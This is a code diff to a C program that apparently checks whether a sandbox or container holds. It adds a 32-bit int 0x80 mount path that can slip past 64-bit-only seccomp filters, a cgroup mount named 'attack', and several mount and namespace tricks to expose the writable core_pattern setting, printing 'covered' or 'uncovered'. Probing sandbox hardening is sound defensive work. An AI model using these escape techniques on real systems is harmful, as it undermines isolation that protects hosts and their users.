@@ -29,6 +29,7 @@
 #include <signal.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mman.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/resource.h>
@@ -161,6 +162,24 @@ static long mount_v1(void)
     return result;
 }
 
+#ifdef __x86_64__
+/* As a program of 32 bits calls it, whose strings have to be where such a program could have them. */
+static long mount_by_i386(void)
+{
+    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+    long result;
+    strcpy(low, "/tmp");
+    strcpy(low + 16, "cgroup");
+    strcpy(low + 32, "none,name=attack");
+    __asm__ volatile("int $0x80"
+                     : "=a"(result)
+                     : "a"(21L), "b"(low), "c"(low), "d"(low + 16), "S"(mount_flags), "D"(low + 32)
+                     : "memory", "r8", "r9", "r10", "r11");
+    errno = result < 0 ? -result : 0;
+    return result < 0 ? -1 : result;
+}
+#endif
+
 static long mount_v2(void)
 {
     return syscall(SYS_mount, "x", "/tmp", "cgroup2", mount_flags, NULL);
@@ -199,6 +218,10 @@ static int try_hierarchies(const char *where)
         got |= attempt(what, mount_v1);
         snprintf(what, sizeof what, "%s v2 %lx", where, mount_flags);
         got |= attempt(what, mount_v2);
+#ifdef __x86_64__
+        snprintf(what, sizeof what, "%s i386 %lx", where, mount_flags);
+        got |= attempt(what, mount_by_i386);
+#endif
         if (*flags == 1)
             break;
     }
@@ -275,11 +298,14 @@ static int is_uncovered(const char *path)
 #define SETTING "sys/kernel/core_pattern"
 
 /* The settings are read-only by a mount on /proc/sys, which a bind of /proc leaves out. */
-static int uncover(void)
+static int try_uncovering(void)
 {
     struct { unsigned long long set, clear, propagation, userns; } writable = {0, 1, 0, 0};
     int got = 0;
     say("bind", mount("/proc", "/tmp", NULL, MS_BIND, NULL));
+    got |= is_uncovered("/tmp/" SETTING);
+    say("recursive bind", mount("/proc", "/tmp", NULL, MS_BIND | MS_REC, NULL));
+    say("unmount in the bind", umount2("/tmp/sys", MNT_DETACH));
     got |= is_uncovered("/tmp/" SETTING);
     int tree = syscall(SYS_open_tree, AT_FDCWD, "/proc", 1 /* OPEN_TREE_CLONE */);
     say("open_tree", tree);
@@ -289,8 +315,18 @@ static int uncover(void)
     got |= is_uncovered("/proc/" SETTING);
     say("remount", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
     got |= is_uncovered("/proc/" SETTING);
+    say("move", mount("/proc/sys", "/tmp", NULL, MS_MOVE, NULL));
+    got |= is_uncovered("/proc/" SETTING);
     say("unmount", umount2("/proc/sys", MNT_DETACH));
     got |= is_uncovered("/proc/" SETTING);
+    return got;
+}
+
+static int uncover(void)
+{
+    int got = try_uncovering();
+    if (attempt("unshare", make_namespaces) && !make_namespaces())
+        got |= try_uncovering();
     puts(got ? "uncovered" : "covered");
     return 0;
 }
